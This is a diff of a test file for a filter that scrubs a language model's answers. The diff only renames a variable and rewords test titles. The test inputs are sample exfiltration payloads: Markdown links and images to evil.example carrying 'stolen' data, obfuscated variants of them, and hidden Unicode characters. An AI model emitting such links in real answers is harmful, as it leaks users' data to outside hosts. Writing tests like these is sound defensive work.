@@ -4,14 +4,14 @@ import { sayings } from '../../../test/fixtures/hostile-texts.ts';
 import { reachedBy } from '../../../test/fixtures/shown-markdown.ts';
 import { addressesIn, filterAnswer } from './answer-filter.ts';
 
-const given = addressesIn([
+const permitted = addressesIn([
   'Returns: https://shop.example/returns, or ask (https://shop.example/help?topic=a).',
   'www.docs.example/start',
 ]);
 
 describe('an answer of a model', () => {
-  test.each(sayings)('reaches nowhere by %s', (saying) => {
-    const shown = filterAnswer(saying.replaceAll('LOOT', 'stolen'), given);
+  test.each(sayings)('contains no link or picture to another site: %s', (saying) => {
+    const shown = filterAnswer(saying.replaceAll('LOOT', 'stolen'), permitted);
     expect(reachedBy(shown).filter((what) => what !== 'link https://shop.example')).toEqual([]);
     expect(shown).not.toMatch(/(?:https?|ftp):\/\/(?!shop\.example(?![\w.@/?#]))/i);
   });
@@ -32,8 +32,8 @@ describe('an answer of a model', () => {
     'https://shop.example/returns and shop.example and www.docs.example/start',
     'if (a < 3 && b > 4) return [1, 2][0];',
     'میخواهم 🏳️‍🌈 我们 👨‍👩‍👧',
-  ])('is left as it is: %s', (answer) => {
-    expect(filterAnswer(answer, given)).toBe(answer);
+  ])('is unchanged: %s', (answer) => {
+    expect(filterAnswer(answer, permitted)).toBe(answer);
   });
 
   test.each([
@@ -42,13 +42,13 @@ describe('an answer of a model', () => {
     '![x][r]\n\n> [r]: /collect?stolen',
     '[x][]\n\n[x]: <//evil.example/stolen>',
     '```\n![x](https://evil.example/?stolen)\n```\n![x](https://evil.example/?stolen)',
-  ])('reaches nowhere over several lines: %j', (answer) => {
+  ])('contains no multi-line link or picture to another site: %j', (answer) => {
     expect(reachedBy(answer)).not.toEqual([]);
-    expect(reachedBy(filterAnswer(answer, given))).toEqual([]);
+    expect(reachedBy(filterAnswer(answer, permitted))).toEqual([]);
   });
 
-  test('hides nothing from whoever reads it', () => {
-    expect(filterAnswer('Hi\u{E0073}\u{E0074} the\u200Bre\u202E', given)).toBe('Hi there');
+  test('contains no invisible characters', () => {
+    expect(filterAnswer('Hi\u{E0073}\u{E0074} the\u200Bre\u202E', permitted)).toBe('Hi there');
   });
 
   test.each([
@@ -68,8 +68,8 @@ describe('an answer of a model', () => {
     ],
     ['stolen.evil。com and ｈｔｔｐｓ：／／ｅｖｉｌ．com', '[link removed] and [link removed]'],
     ['x@evil.com/?stolen and x@evil.com?stolen', 'x@[link removed] and x@[link removed]'],
-  ])('holds nothing that a messenger makes a link of: %s', (answer, shown) => {
-    expect(filterAnswer(answer, given)).toBe(shown);
+  ])('contains no text that a messenger turns into a link: %s', (answer, shown) => {
+    expect(filterAnswer(answer, permitted)).toBe(shown);
   });
 
   test.each([
@@ -83,18 +83,18 @@ describe('an answer of a model', () => {
     '[so evil.](https://shop.example/returns)com/leak',
     'evil.[com/leak this](https://shop.example/returns)',
     'evil`*`.`*`com/leak and evil**.**com',
-  ])('holds none that comes together once the marks of Markdown are away: %s', (answer) => {
-    const shown = filterAnswer(answer, given);
+  ])('contains no address that appears when Markdown marks are removed: %s', (answer) => {
+    const shown = filterAnswer(answer, permitted);
     for (const spoken of [toSpokenText(shown), toSpokenText(toSpokenText(shown))])
       expect(spoken).not.toMatch(/evil[.]com|www[.]/);
-    expect(filterAnswer(shown, given)).toBe(shown);
+    expect(filterAnswer(shown, permitted)).toBe(shown);
   });
 
-  test('keeps the words of what it loses', () => {
+  test('keeps the text of removed links and pictures', () => {
     expect(
-      filterAnswer('See [our page](https://evil.example/?q) and ![a picture](https://evil.example/p.png)!', given),
+      filterAnswer('See [our page](https://evil.example/?q) and ![a picture](https://evil.example/p.png)!', permitted),
     ).toBe('See [our page] ([link removed]) and [a picture] ([link removed])!');
-    expect(filterAnswer('{"url":"https://evil.example/?q=1","n":1}', given)).toBe('{"url":"[link removed]","n":1}');
+    expect(filterAnswer('{"url":"https://evil.example/?q=1","n":1}', permitted)).toBe('{"url":"[link removed]","n":1}');
   });
 
   test.each([
@@ -117,12 +117,12 @@ describe('an answer of a model', () => {
     '```',
     '。',
     '．',
-  ])('is looked through to its end, however often it says %j', (unit) => {
-    expect(filterAnswer(`${unit.repeat(20_000)} https://evil.example/?q`, given)).not.toContain('evil.example');
+  ])('is filtered to its end when it repeats %j', (unit) => {
+    expect(filterAnswer(`${unit.repeat(20_000)} https://evil.example/?q`, permitted)).not.toContain('evil.example');
   });
 });
 
-test('an answer of any size holds up nobody', () => {
+test('filtering takes linear time and the answer is cut', () => {
   for (const unit of [`${'a'.repeat(63)}.`, 'a.', 'https://', '](', '<a', '![', 'a@', 'a.b@c.', '1.1.1.1', '`a', 'a．'])
     filterAnswer(unit.repeat(2_000_000 / unit.length), new Set());
   expect(filterAnswer('a'.repeat(1_000_000), new Set()).length).toBeLessThan(100_000);
